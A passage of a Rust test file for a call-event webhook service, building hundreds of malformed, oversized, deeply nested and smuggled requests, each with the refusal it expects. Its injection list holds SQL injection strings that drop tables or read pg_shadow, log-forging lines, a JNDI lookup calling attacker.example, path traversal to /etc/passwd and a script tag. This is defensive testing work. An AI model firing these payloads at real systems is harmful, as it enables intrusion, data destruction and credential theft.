//! The hostile-input corpus: hundreds of malformed, oversized, smuggled, forged and injected
//! requests against one running app, each with the answer it must get. After every case nothing
//! was stored (or exactly what the case stores, byte for byte); after every group the service still
//! answers and still stores a good delivery. Never a 5xx for a client's mistake, never a partial
//! write.

use std::time::Duration;

use base64::Engine;
use calltrail::auth::testing::{make_jwt, sign_webhook};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::fixtures::*;
use crate::helpers::*;
use crate::reporting::API_TOKEN;

const T: &str = "2024-01-01T00:00:00Z";
const AUDIENCE: &str = "acs-resource-immutable-id";
const ISSUER: &str = "https://acscallautomation.communication.azure.com";
const WHSEC: &str = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";

/// SQL- and log-injection strings, and other text that must be kept as sent.
const INJECTIONS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "1; SELECT pg_sleep(30)--",
    "\" OR \"\"=\"",
    "') UNION SELECT usename, passwd FROM pg_shadow --",
    "$$; TRUNCATE event_dedup; $$",
    "%' OR 1=1 --",
    "\\'; COMMIT; DELETE FROM calls; --",
    "line one\nlevel=ERROR msg=\"forged entry\"",
    "\r\n{\"level\":\"ERROR\",\"fields\":{\"message\":\"forged\"}}",
    "\u{1b}[31mred\u{1b}[0m \u{7}",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "\u{202e}txt.exe \u{fe0f} 𝕏 中文 é",
];

#[derive(Debug, Clone)]
enum Expect {
    /// An answer of the application: this status, the error shape with this code, nothing stored.
    Refused(u16, &'static str),
    /// Refused by the HTTP layer before any application code: this status, an empty body.
    Bare(u16),
    /// 200, and this many new events stored.
    Stored(i64),
    /// A reporting-API answer: 200, 400 or 404 (in the error shape), never anything else.
    Answered,
    /// A reporting-API page of exactly this many items.
    Found(usize),
    /// 413 as above, or the connection reset by the server's close while the client still wrote.
    TooLargeOrReset,
}

#[derive(Debug, Clone)]
struct Case {
    group: &'static str,
    name: String,
    method: reqwest::Method,
    path: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    /// Bytes written as they are on a TCP connection instead of an HTTP client's request.
    raw: Option<Vec<u8>>,
    expect: Expect,
    /// A text the error message must contain.
    message: Option<String>,
    /// An event that must be stored with exactly this raw text: (event id, raw).
    verbatim: Option<(String, String)>,
}

impl Case {
    fn post(
        group: &'static str,
        name: impl Into<String>,
        path: &str,
        body: impl Into<Vec<u8>>,
    ) -> Case {
        Case {
            group,
            name: name.into(),
            method: reqwest::Method::POST,
            path: path.to_owned(),
            headers: vec![("content-type".into(), "application/json".into())],
            body: body.into(),
            raw: None,
            expect: Expect::Stored(1),
            message: None,
            verbatim: None,
        }
    }

    fn callback(group: &'static str, name: impl Into<String>, body: impl Into<Vec<u8>>) -> Case {
        Case::post(
            group,
            name,
            &format!("/api/callbacks?secret={SECRET}"),
            body,
        )
    }

    fn get(group: &'static str, name: impl Into<String>, path: String) -> Case {
        Case {
            method: reqwest::Method::GET,
            headers: vec![("authorization".into(), format!("Bearer {API_TOKEN}"))],
            expect: Expect::Answered,
            ..Case::post(group, name, &path, Vec::new())
        }
    }

    fn raw(group: &'static str, name: impl Into<String>, bytes: Vec<u8>, expect: Expect) -> Case {
        Case {
            raw: Some(bytes),
            expect,
            ..Case::post(group, name, "", Vec::new())
        }
    }

    fn expect(mut self, expect: Expect) -> Case {
        self.expect = expect;
        self
    }

    fn refused(self, status: u16, code: &'static str) -> Case {
        self.expect(Expect::Refused(status, code))
    }

    fn message(mut self, text: impl Into<String>) -> Case {
        self.message = Some(text.into());
        self
    }

    fn header(mut self, name: &str, value: impl Into<String>) -> Case {
        self.headers.retain(|(n, _)| !n.eq_ignore_ascii_case(name));
        self.headers.push((name.to_owned(), value.into()));
        self
    }

    fn without_header(mut self, name: &str) -> Case {
        self.headers.retain(|(n, _)| !n.eq_ignore_ascii_case(name));
        self
    }
}

// ---- the fixtures, and a JSON tree that can be rendered with one change ----

#[derive(Debug, Clone, PartialEq)]
enum Seg {
    Key(String),
    Index(usize),
}

enum Op<'a> {
    /// Replace the value with this JSON text.
    Replace(&'a str),
    /// Remove the entry (its path ends with a key).
    Remove,
    /// Add this entry (a key and JSON text) before the object's own entries.
    Prepend(&'a str, &'a str),
}

fn render(v: &Value, path: &[Seg], op: &Op<'_>) -> String {
    if path.is_empty() {
        return match op {
            Op::Replace(text) => (*text).to_owned(),
            Op::Prepend(key, text) => {
                let map = v.as_object().expect("an object");
                let mut parts = vec![format!("{}:{text}", Value::from(*key))];
                parts.extend(
                    map.iter()
                        .map(|(k, v)| format!("{}:{v}", Value::from(k.as_str()))),
                );
                format!("{{{}}}", parts.join(","))
            }
            Op::Remove => unreachable!("removal is done by the parent"),
        };
    }
    match (v, &path[0]) {
        (Value::Object(map), Seg::Key(key)) => {
            let parts: Vec<String> = map
                .iter()
                .filter_map(|(k, child)| {
                    if k != key {
                        return Some(format!("{}:{child}", Value::from(k.as_str())));
                    }
                    if path.len() == 1 && matches!(op, Op::Remove) {
                        return None;
                    }
                    Some(format!(
                        "{}:{}",
                        Value::from(k.as_str()),
                        render(child, &path[1..], op)
                    ))
                })
                .collect();
            format!("{{{}}}", parts.join(","))
        }
        (Value::Array(items), Seg::Index(at)) => {
            let parts: Vec<String> = items
                .iter()
                .enumerate()
                .map(|(i, child)| {
                    if i == *at {
                        render(child, &path[1..], op)
                    } else {
                        child.to_string()
                    }
                })
                .collect();
            format!("[{}]", parts.join(","))
        }
        _ => panic!("path does not match the value"),
    }
}

/// Every node under `v`: its path, its pattern (lowercase keys, `*` for indexes) and its value.
fn nodes<'v>(v: &'v Value, path: Vec<Seg>, out: &mut Vec<(Vec<Seg>, &'v Value)>) {
    out.push((path.clone(), v));
    match v {
        Value::Object(map) => {
            for (k, child) in map {
                let mut p = path.clone();
                p.push(Seg::Key(k.clone()));
                nodes(child, p, out);
            }
        }
        Value::Array(items) => {
            for (i, child) in items.iter().enumerate() {
                let mut p = path.clone();
                p.push(Seg::Index(i));
                nodes(child, p, out);
            }
        }
        _ => {}
    }
}

fn pattern(path: &[Seg]) -> String {
    path.iter()
        .map(|s| match s {
            Seg::Key(k) => k.to_lowercase(),
            Seg::Index(_) => "*".to_owned(),
        })
        .collect::<Vec<_>>()
        .join(".")
}

/// The path as the parser names it: the sender's keys, `[i]` for indexes.
fn display(path: &[Seg]) -> String {
    let mut out = String::new();
    for s in path {
        match s {
            Seg::Key(k) => {
                if !out.is_empty() {
                    out.push('.');
                }
                out.push_str(k);
            }
            Seg::Index(i) => out.push_str(&format!("[{i}]")),
        }
    }
    out
}

struct Fixture {
    name: String,
    /// Where it is delivered.
    path: String,
    value: Value,
    eventgrid: bool,
}

impl Fixture {
    /// Each element: the path to it in the body, its value, and whether its type is a known one.
    fn elements(&self) -> Vec<(Vec<Seg>, &Value, bool)> {
        let list: Vec<(Vec<Seg>, &Value)> = match &self.value {
            Value::Array(items) => items
                .iter()
                .enumerate()
                .map(|(i, v)| (vec![Seg::Index(i)], v))
                .collect(),
            v => vec![(Vec::new(), v)],
        };
        list.into_iter()
            .map(|(p, v)| {
                let known = self.is_known(v, p.is_empty());
                (p, v, known)
            })
            .collect()
    }

    fn is_known(&self, element: &Value, single: bool) -> bool {
        let alone = if single {
            element.to_string()
        } else {
            json!([element]).to_string()
        };
        if self.eventgrid {
            match calltrail::events::parse_eventgrid_body(alone.as_bytes()).expect("fixture parses")
            {
                calltrail::events::EventGridDelivery::SubscriptionValidation { .. } => true,
                calltrail::events::EventGridDelivery::Events(events) => {
                    events[0].kind.family() != calltrail::events::EventFamily::Unknown
                }
            }
        } else {
            let events =
                calltrail::events::parse_callback_body(alone.as_bytes()).expect("fixture parses");
            events[0].kind.family() != calltrail::events::EventFamily::Unknown
        }
    }

    /// The body with one change at `path`.
    fn with(&self, path: &[Seg], op: &Op<'_>) -> String {
        render(&self.value, path, op)
    }
}

fn fixtures() -> Vec<Fixture> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/events/testdata");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.ends_with(".json"))
        .collect();
    names.sort();
    names
        .into_iter()
        .map(|name| {
            let text = std::fs::read_to_string(dir.join(&name)).unwrap();
            let eventgrid = name.starts_with("eg_");
            let path = if eventgrid {
                format!("/api/eventgrid?secret={SECRET}")
            } else {
                format!("/api/callbacks?secret={SECRET}")
            };
            Fixture {
                name,
                path,
                value: serde_json::from_str(&text).unwrap(),
                eventgrid,
            }
        })
        .collect()
}

#[derive(Debug, Clone, Copy)]
enum Ty {
    Str,
    Int,
    Bool,
    Obj,
    Arr,
    /// A communication identifier: an object or a raw id string.
    Ident,
    /// An RFC 3339 time, as a string.
    Time,
}

impl Ty {
    fn wrong_values(self) -> &'static [&'static str] {
        match self {
            Ty::Str => &["42", "true", "{}", "[\"x\"]"],
            Ty::Int => &[
                "\"7\"",
                "7.5",
                "true",
                "1e2",
                "9223372036854775808",
                "18446744073709551616",
                "-9223372036854775809",
                "123456789012345678901234567890",
            ],
            Ty::Bool => &["\"true\"", "1", "[]"],
            Ty::Obj => &["\"x\"", "1", "[]"],
            Ty::Arr => &["{}", "\"x\"", "1"],
            Ty::Ident => &["1", "true", "[]", "\"\"", "{}"],
            Ty::Time => &["1", "\"soon\"", "{}", "\"2024-13-45T99:00:00Z\""],
        }
    }
}

/// Every field the parser reads, by pattern, with its type. Identifier parts are listed once and
/// apply under every identifier.
const KNOWN: &[(&str, Ty)] = &[
    ("id", Ty::Str),
    ("source", Ty::Str),
    ("topic", Ty::Str),
    ("type", Ty::Str),
    ("eventtype", Ty::Str),
    ("subject", Ty::Str),
    ("time", Ty::Time),
    ("eventtime", Ty::Time),
    ("data", Ty::Obj),
    ("data.callconnectionid", Ty::Str),
    ("data.calllegid", Ty::Str),
    ("data.servercallid", Ty::Str),
    ("data.correlationid", Ty::Str),
    ("data.operationcontext", Ty::Str),
    ("data.resultinformation", Ty::Obj),
    ("data.resultinformation.code", Ty::Int),
    ("data.resultinformation.subcode", Ty::Int),
    ("data.resultinformation.message", Ty::Str),
    ("data.resultinfo", Ty::Obj),
    ("data.resultinfo.code", Ty::Int),
    ("data.resultinfo.subcode", Ty::Int),
    ("data.resultinfo.message", Ty::Str),
    ("data.sequencenumber", Ty::Int),
    ("data.callstate", Ty::Str),
    ("data.conversationid", Ty::Str),
    ("data.callconnectionstate", Ty::Str),
    ("data.participants", Ty::Arr),
    ("data.participants.*", Ty::Obj),
    ("data.participants.*.identifier", Ty::Ident),
    ("data.participants.*.participantid", Ty::Str),
    ("data.participants.*.ismuted", Ty::Bool),
    ("data.participants.*.isonhold", Ty::Bool),
    ("data.toneinfo", Ty::Obj),
    ("data.toneinfo.tone", Ty::Str),
    ("data.toneinfo.sequenceid", Ty::Int),
    ("data.tone", Ty::Str),
    ("data.sequenceid", Ty::Int),
    ("data.dtmfresult", Ty::Obj),
    ("data.dtmfresult.tones", Ty::Arr),
    ("data.dtmfresult.tones.*", Ty::Str),
    ("data.collecttonesresult", Ty::Obj),
    ("data.collecttonesresult.tones", Ty::Arr),
    ("data.collecttonesresult.tones.*", Ty::Str),
    ("data.choiceresult", Ty::Obj),
    ("data.choiceresult.label", Ty::Str),
    ("data.speechresult", Ty::Obj),
    ("data.speechresult.speech", Ty::Str),
    ("data.recognitiontype", Ty::Str),
    ("data.status", Ty::Str),
    ("data.failedplaysourceindex", Ty::Int),
    ("data.participant", Ty::Ident),
    ("data.transferee", Ty::Ident),
    ("data.transfertarget", Ty::Ident),
    ("data.state", Ty::Str),
    ("data.recordingid", Ty::Str),
    ("data.to", Ty::Ident),
    ("data.from", Ty::Ident),
    ("data.callerdisplayname", Ty::Str),
    ("data.recordingstorageinfo", Ty::Obj),
    ("data.recordingstorageinfo.recordingchunks", Ty::Arr),
    ("data.recordingstarttime", Ty::Time),
    ("data.recordingdurationms", Ty::Int),
    ("data.sessionendreason", Ty::Str),
    ("data.validationcode", Ty::Str),
    ("data.validationurl", Ty::Str),
];

const IDENTIFIERS: &[&str] = &[
    "data.participants.*.identifier",
    "data.participant",
    "data.transferee",
    "data.transfertarget",
    "data.to",
    "data.from",
];

const IDENTIFIER_PARTS: &[(&str, Ty)] = &[
    ("rawid", Ty::Str),
    ("kind", Ty::Str),
    ("phonenumber", Ty::Obj),
    ("phonenumber.value", Ty::Str),
    ("communicationuser", Ty::Obj),
    ("communicationuser.id", Ty::Str),
    ("microsoftteamsuser", Ty::Obj),
    ("microsoftteamsuser.userid", Ty::Str),
    ("microsoftteamsuser.isanonymous", Ty::Bool),
    ("microsoftteamsuser.cloud", Ty::Str),
    ("microsoftteamsapp", Ty::Obj),
    ("microsoftteamsapp.appid", Ty::Str),
];

fn known_type_of(pattern: &str) -> Option<Ty> {
    if let Some((_, ty)) = KNOWN.iter().find(|(p, _)| *p == pattern) {
        return Some(*ty);
    }
    IDENTIFIERS.iter().find_map(|ident| {
        let rest = pattern.strip_prefix(ident)?.strip_prefix('.')?;
        IDENTIFIER_PARTS
            .iter()
            .find(|(p, _)| *p == rest)
            .map(|(_, ty)| *ty)
    })
}

/// Fields whose absence (or `null`) makes an event of a known type malformed.
const REQUIRED: &[&str] = &[
    "type",
    "eventtype",
    "data",
    "data.callstate",
    "data.callconnectionstate",
    "data.participants",
    "data.participants.*.identifier",
    "data.toneinfo.tone",
    "data.validationcode",
];

/// A JSON string literal holding `s` with `inner` (already JSON text) spliced into its middle.
fn spliced(s: &str, inner: &str) -> String {
    let quoted = Value::from(s).to_string();
    let body = &quoted[1..quoted.len() - 1];
    let mut cut = body.len() / 2;
    // Not inside an escape sequence: cut before a backslash run.
    while cut > 0 && (!body.is_char_boundary(cut) || body[..cut].ends_with('\\')) {
        cut -= 1;
    }
    // Back off further if `cut` is inside a \uXXXX escape.
    if let Some(bs) = body[..cut].rfind('\\') {
        if cut - bs < 6 {
            cut = bs;
        }
    }
    format!("\"{}{inner}{}\"", &body[..cut], &body[cut..])
}

// ---- the groups ----

fn body_cases() -> Vec<Case> {
    let g = "invalid JSON";
    let good = json!([b_tone("never", "c-x", 1, "one", T)]).to_string();
    let mut cases = Vec::new();
    for text in [
        "",
        " ",
        "{",
        "[",
        "[{",
        "{\"id\": ",
        "nul",
        "tru",
        "NaN",
        "Infinity",
        "-Infinity",
        "[1,]",
        "{'id':'x'}",
        "{\"id\":\"x\",}",
        "{\"id\" \"x\"}",
        "// comment\n{}",
        "/* c */ []",
        "{\"a\":\"unterminated}",
        "{\"a\":\"tab\tinside\"}",
        "{\"a\":\"\\x41\"}",
        "{\"a\":\"\\u12\"}",
        "{\"a\":01}",
        "{\"a\":.5}",
        "{\"a\":+1}",
        "{\"a\":1e400}",
        "{\"a\":-1e400}",
        "[{}]x",
        "[{}][{}]",
        "{}{}",
    ] {
        cases.push(Case::callback(g, format!("{text:?}"), text).refused(400, "invalid_json"));
    }
    // Lone surrogates are invalid JSON, but the check that the whole body is JSON (made when a body
    // or an element is refused) does not look inside strings: a body refused for its shape or for
    // another element is refused as an invalid event instead. Still a 400, and nothing stored.
    cases.push(
        Case::callback(g, "a lone surrogate as the whole body", "\"\\ud800\"")
            .refused(400, "invalid_event"),
    );
    let nul_then_surrogate = r#"[{"id":"x\u0000","source":"s","type":"T","specversion":"1.0"},{"id":"y","source":"s","type":"\ud800","specversion":"1.0"}]"#;
    cases.push(
        Case::callback(g, "a NUL, then a lone surrogate", nul_then_surrogate)
            .refused(400, "invalid_event"),
    );
    let mut a_400_digit_integer = "1".to_owned();
    a_400_digit_integer.push_str(&"0".repeat(400));
    cases.push(
        Case::callback(
            g,
            "an integer of 400 digits",
            format!(
                r#"[{{"id":"big","source":"s","type":"T","specversion":"1.0","data":{{"n":{a_400_digit_integer}}}}}]"#
            ),
        )
        .refused(400, "invalid_json"),
    );
    // A raw control character, a NUL byte outside any string.
    cases.push(
        Case::callback(g, "a raw NUL byte", format!("{good}\0")).refused(400, "invalid_json"),
    );
    cases.push(
        Case::callback(
            g,
            "a raw control character in a string",
            good.replace("c-x", "c\u{1}x"),
        )
        .refused(400, "invalid_json"),
    );

    let g = "truncated";
    for f in fixtures() {
        let text = f.value.to_string();
        for fraction in [1, 2, 3] {
            let cut = text.len() * fraction / 4;
            cases.push(
                Case::post(
                    g,
                    format!("{} cut at {fraction}/4", f.name),
                    &f.path,
                    &text.as_bytes()[..cut],
                )
                .refused(400, "invalid_json"),
            );
        }
        cases.push(
            Case::post(
                g,
                format!("{} without its last byte", f.name),
                &f.path,
                &text.as_bytes()[..text.len() - 1],
            )
            .refused(400, "invalid_json"),
        );
    }

    let g = "invalid UTF-8";
    let utf8: &[(&str, &[u8])] = &[
        ("0xff", b"\xff"),
        ("a lone continuation byte", b"\x80"),
        ("an overlong slash", b"\xc0\xaf"),
        ("a surrogate encoded in UTF-8", b"\xed\xa0\x80"),
        ("a truncated sequence", b"\xe2\x82"),
        ("Latin-1", b"caf\xe9"),
        ("beyond U+10FFFF", b"\xf4\x90\x80\x80"),
    ];
    for (name, bytes) in utf8 {
        let mut body = good.as_bytes().to_vec();
        let at = good.find("c-x").unwrap() + 1;
        body.splice(at..at, bytes.iter().copied());
        cases.push(Case::callback(g, *name, body).refused(400, "invalid_json"));
    }
    cases.push(
        Case::callback(g, "a byte order mark", format!("\u{feff}{good}"))
            .refused(400, "invalid_json"),
    );
    let utf16: Vec<u8> = good.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    cases.push(Case::callback(g, "UTF-16", utf16).refused(400, "invalid_json"));

    let g = "shape";
    for (text, code) in [
        ("null", "invalid_event"),
        ("42", "invalid_event"),
        ("\"x\"", "invalid_event"),
        ("true", "invalid_event"),
        ("{}", "invalid_event"),
        ("[]", "invalid_event"),
        ("[[]]", "invalid_event"),
        ("[null]", "invalid_event"),
        (r#"{"specversion":"1.0"}"#, "invalid_event"),
        (r#"{"eventType":null}"#, "invalid_event"),
    ] {
        cases.push(Case::callback(g, text, text).refused(400, code));
    }
    cases
}

fn size_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let g = "large";
    let array_of = |item: &str, n: usize| format!("[{}]", vec![item; n].join(","));
    cases.push(
        Case::callback(g, "100,000 numbers", array_of("1", 100_000)).refused(400, "invalid_event"),
    );
    cases.push(
        Case::callback(g, "100,000 empty arrays", array_of("[]", 100_000))
            .refused(400, "invalid_event"),
    );
    cases.push(
        Case::callback(g, "100,000 empty objects", array_of("{}", 100_000))
            .refused(400, "invalid_event"),
    );
    cases.push(
        Case::callback(g, "100,000 nulls", array_of("null", 100_000)).refused(400, "invalid_event"),
    );
    let tiny = r#"{"id":"i","source":"s","type":"T","specversion":"1.0"}"#;
    cases.push(
        Case::callback(
            g,
            "5,001 events (one over the largest batch)",
            array_of(tiny, 5001),
        )
        .refused(400, "invalid_event")
        .message("too many events"),
    );
    let tiny_unique: Vec<String> = (0..5001)
        .map(|i| format!(r#"{{"id":"many-{i}","source":"s","type":"T","specversion":"1.0"}}"#))
        .collect();
    cases.push(
        Case::callback(
            g,
            "5,001 distinct events",
            format!("[{}]", tiny_unique.join(",")),
        )
        .refused(400, "invalid_event"),
    );
    let inner = format!(
        r#"[{{"id":"wide-1","source":"s","type":"T","specversion":"1.0","data":{{"xs":{}}}}}]"#,
        array_of("0", 100_000)
    );
    cases.push(
        Case::callback(g, "an unknown event holding 100,000 numbers", inner)
            .expect(Expect::Stored(1)),
    );
    let tones = format!(
        r#"[{{"id":"wide-2","source":"s","type":"Microsoft.Communication.RecognizeCompleted","specversion":"1.0","data":{{"callConnectionId":"c-wide","recognitionType":"dtmf","dtmfResult":{{"tones":{}}}}}}}]"#,
        array_of("\"five\"", 100_000)
    );
    cases
        .push(Case::callback(g, "a recognition of 100,000 tones", tones).expect(Expect::Stored(1)));
    let participants: Vec<String> = (0..20_000)
        .map(|i| format!(r#"{{"identifier":"8:acs:p{i}"}}"#))
        .collect();
    let snapshot = format!(
        r#"[{{"id":"wide-3","source":"s","type":"Microsoft.Communication.ParticipantsUpdated","specversion":"1.0","data":{{"callConnectionId":"c-wide","sequenceNumber":1,"participants":[{}]}}}}]"#,
        participants.join(",")
    );
    cases.push(
        Case::callback(g, "a snapshot of 20,000 participants", snapshot).expect(Expect::Stored(1)),
    );

    let g = "deep";
    for depth in [129, 1000, 100_000] {
        cases.push(
            Case::callback(
                g,
                format!("arrays {depth} deep"),
                format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
            )
            .refused(400, "invalid_json"),
        );
        let objects = format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth));
        cases.push(
            Case::callback(g, format!("objects {depth} deep"), objects)
                .refused(400, "invalid_json"),
        );
        let in_data = format!(
            r#"[{{"id":"deep","source":"s","type":"T","specversion":"1.0","data":{{"x":{}{}}}}}]"#,
            "[".repeat(depth),
            "]".repeat(depth)
        );
        cases.push(
            Case::callback(g, format!("data {depth} deep"), in_data).refused(400, "invalid_json"),
        );
        cases.push(
            Case::callback(
                g,
                format!("unclosed arrays {depth} deep"),
                "[".repeat(depth),
            )
            .refused(400, "invalid_json"),
        );
    }
    let nested_ok = format!(
        r#"[{{"id":"deep-ok","source":"s","type":"T","specversion":"1.0","data":{{"x":{}{}}}}}]"#,
        "[".repeat(100),
        "]".repeat(100)
    );
    cases.push(Case::callback(g, "data 100 deep", nested_ok).expect(Expect::Stored(1)));

    let g = "huge strings";
    let long = |n: usize| -> String {
        (0..n)
            .map(|i| char::from(b'a' + (i * 7 % 26) as u8))
            .collect()
    };
    let event = |id: &str, data: Value| {
        json!([b_event(id, "PlayCompleted", "c-huge", data, T)]).to_string()
    };
    cases.push(
        Case::callback(
            g,
            "an operation context of 900 kB",
            event("huge-1", json!({"operationContext": long(900_000)})),
        )
        .expect(Expect::Stored(1)),
    );
    cases.push(
        Case::callback(
            g,
            "an unread field of 900 kB",
            event("huge-2", json!({"note": long(900_000)})),
        )
        .expect(Expect::Stored(1)),
    );
    cases.push(
        Case::callback(
            g,
            "a result message of 500 kB",
            event(
                "huge-3",
                json!({"resultInformation": {"code": 200, "subCode": 0, "message": long(500_000)}}),
            ),
        )
        .expect(Expect::Stored(1)),
    );
    for (field, name) in [
        ("callConnectionId", "data.callConnectionId"),
        ("correlationId", "data.correlationId"),
    ] {
        cases.push(
            Case::callback(
                g,
                format!("{field} of 1,025 characters"),
                event("huge-4", json!({field: long(1025)})),
            )
            .refused(400, "invalid_event")
            .message(format!("field `{name}` must be at most 1024 characters")),
        );
    }
    let long_type =
        json!([{"id": "huge-5", "source": "s", "type": long(1025), "specversion": "1.0"}])
            .to_string();
    cases.push(
        Case::callback(g, "a type of 1,025 characters", long_type).refused(400, "invalid_event"),
    );
    let long_raw_id = json!([b_participants(
        "huge-6",
        "c-huge",
        1,
        &[(
            json!({"rawId": format!("8:acs:{}", long(1025))}),
            false,
            false
        )],
        T
    )])
    .to_string();
    cases.push(
        Case::callback(g, "a participant raw id of 1,030 characters", long_raw_id)
            .refused(400, "invalid_event"),
    );
    cases.push(
        Case::callback(
            g,
            "an id of 500 kB",
            json!([{"id": long(500_000), "source": "s", "type": "T", "specversion": "1.0"}])
                .to_string(),
        )
        .expect(Expect::Stored(1)),
    );
    let multibyte = "é".repeat(1024);
    cases.push(
        Case::callback(
            g,
            "a call id of 1,024 two-byte characters",
            event("huge-7", json!({"callConnectionId": multibyte})),
        )
        .expect(Expect::Stored(1)),
    );
    cases
}

/// Requests that go over the body limit, sent on a socket of their own.
fn over_limit_cases() -> Vec<Case> {
    let g = "over the limit";
    let head = |framing: &str| {
        format!(
            "POST /api/callbacks?secret={SECRET} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n{framing}\r\n\r\n"
        )
    };
    let mut cases = Vec::new();
    for declared in [1_048_577_u64, 50 * 1024 * 1024, 10_u64.pow(12), u64::MAX] {
        cases.push(Case::raw(
            g,
            format!("Content-Length {declared}, nothing sent"),
            head(&format!("content-length: {declared}")).into_bytes(),
            Expect::Refused(413, "payload_too_large"),
        ));
    }
    // Bodies actually sent past the limit: the answer may be lost to the reset of the close.
    let mut body = head("content-length: 1048577").into_bytes();
    body.extend(vec![b' '; 1_048_577]);
    cases.push(Case::raw(
        g,
        "1 MiB + 1 byte sent",
        body,
        Expect::TooLargeOrReset,
    ));
    let mut chunked = head("transfer-encoding: chunked").into_bytes();
    for _ in 0..40 {
        chunked.extend(format!("{:x}\r\n", 64 * 1024).bytes());
        chunked.extend(vec![b' '; 64 * 1024]);
        chunked.extend(b"\r\n");
    }
    cases.push(Case::raw(
        g,
        "2.5 MiB chunked",
        chunked,
        Expect::TooLargeOrReset,
    ));
    cases
}

fn generated_field_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for f in fixtures() {
        for (element_path, element, known) in f.elements() {
            let mut all = Vec::new();
            nodes(element, Vec::new(), &mut all);
            let is_cloud_event = element.get("specversion").is_some();
            for (rel, value) in &all {
                let mut path = element_path.clone();
                path.extend(rel.iter().cloned());
                let pat = pattern(rel);
                let where_ = format!("{} {}", f.name, display(&path));
                let field = format!("field `{}`", display(rel));
                // NUL and lone surrogates in every string, of every element, known or not.
                if let Value::String(s) = value {
                    let body = f.with(&path, &Op::Replace(&spliced(s, "\\u0000")));
                    cases.push(
                        Case::post("NUL in every string", where_.clone(), &f.path, body)
                            .refused(400, "invalid_event")
                            .message(format!("{field} contains a NUL")),
                    );
                    let body = f.with(&path, &Op::Replace(&spliced(s, "\\ud800")));
                    cases.push(
                        Case::post(
                            "lone surrogate in every string",
                            where_.clone(),
                            &f.path,
                            body,
                        )
                        .refused(400, "invalid_json"),
                    );
                }
                if let Value::Object(map) = value {
                    // A repeated key, in its own spelling and in another case, in every object.
                    if let Some((key, v)) = map.iter().next() {
                        let text = v.to_string();
                        for spelling in [key.clone(), key.to_uppercase()] {
                            let body = f.with(&path, &Op::Prepend(&spelling, &text));
                            cases.push(
                                Case::post(
                                    "duplicate keys",
                                    format!("{where_} {spelling}"),
                                    &f.path,
                                    body,
                                )
                                .refused(400, "invalid_event")
                                .message("appears more than once"),
                            );
                        }
                    }
                    let body = f.with(&path, &Op::Prepend("k\u{0}", "1"));
                    cases.push(
                        Case::post(
                            "NUL in every string",
                            format!("{where_} key"),
                            &f.path,
                            body,
                        )
                        .refused(400, "invalid_event")
                        .message("contains a NUL"),
                    );
                }
                if !known {
                    continue;
                }
                // Only plays read `failedPlaySourceIndex`; recognitions carry it unread.
                let play = element["type"].as_str().is_some_and(|t| t.contains("Play"));
                if pat == "data.failedplaysourceindex" && !play {
                    continue;
                }
                if let Some(ty) = known_type_of(&pat) {
                    for wrong in ty.wrong_values() {
                        let body = f.with(&path, &Op::Replace(wrong));
                        cases.push(
                            Case::post("wrong types", format!("{where_} = {wrong}"), &f.path, body)
                                .refused(400, "invalid_event")
                                .message(field.clone()),
                        );
                    }
                }
                let required = REQUIRED.contains(&pat.as_str())
                    || (is_cloud_event && (pat == "id" || pat == "source"));
                if required && !rel.is_empty() {
                    let body = f.with(&path, &Op::Remove);
                    cases.push(
                        Case::post("missing fields", format!("{where_} removed"), &f.path, body)
                            .refused(400, "invalid_event"),
                    );
                    let body = f.with(&path, &Op::Replace("null"));
                    cases.push(
                        Case::post(
                            "null ids and required fields",
                            format!("{where_} null"),
                            &f.path,
                            body,
                        )
                        .refused(400, "invalid_event"),
                    );
                    if matches!(pat.as_str(), "id" | "source") {
                        for blank in ["\"\"", "\"   \""] {
                            let body = f.with(&path, &Op::Replace(blank));
                            cases.push(
                                Case::post(
                                    "null ids and required fields",
                                    format!("{where_} {blank}"),
                                    &f.path,
                                    body,
                                )
                                .refused(400, "invalid_event"),
                            );
                        }
                    }
                }
            }
        }
    }
    cases
}

fn content_type_cases() -> Vec<Case> {
    let g = "content type";
    let mut cases = Vec::new();
    let mut n = 0;
    let mut body = || {
        n += 1;
        json!([b_tone(&format!("ct-{n}"), "c-ct", n, "one", T)]).to_string()
    };
    for ct in [
        "text/plain",
        "text/html",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/octet-stream",
        "",
        "json",
        "application/",
        "*/*",
    ] {
        cases.push(
            Case::callback(g, format!("{ct:?}"), body())
                .header("content-type", ct)
                .refused(415, "unsupported_media_type"),
        );
    }
    cases.push(
        Case::callback(g, "no content type", body())
            .without_header("content-type")
            .refused(415, "unsupported_media_type"),
    );
    for ct in [
        "application/json; charset=utf-8",
        "Application/JSON",
        "application/cloudevents+json",
        "application/cloudevents-batch+json",
        "application/vnd.example+json",
    ] {
        cases.push(
            Case::callback(g, format!("{ct:?}"), body())
                .header("content-type", ct)
                .expect(Expect::Stored(1)),
        );
    }

    let g = "compressed";
    // What gzip makes of 100 MB of zeros starts like this; the body is never read.
    let mut bomb = vec![0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0x00, 0x03];
    bomb.extend(vec![0xed_u8; 4096]);
    for coding in [
        "gzip",
        "x-gzip",
        "br",
        "deflate",
        "zstd",
        "compress",
        "gzip, identity",
        "identity, gzip",
        "GZIP",
        "chunked",
    ] {
        cases.push(
            Case::callback(g, coding, bomb.clone())
                .header("content-encoding", coding)
                .refused(415, "unsupported_encoding"),
        );
    }
    cases.push(
        Case::callback(g, "identity", body())
            .header("content-encoding", "identity")
            .expect(Expect::Stored(1)),
    );
    cases
}

fn http_layer_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let g = "smuggling";
    let inner = json!([b_tone("smuggled", "c-smuggle", 1, "one", T)]).to_string();
    let smuggled = format!(
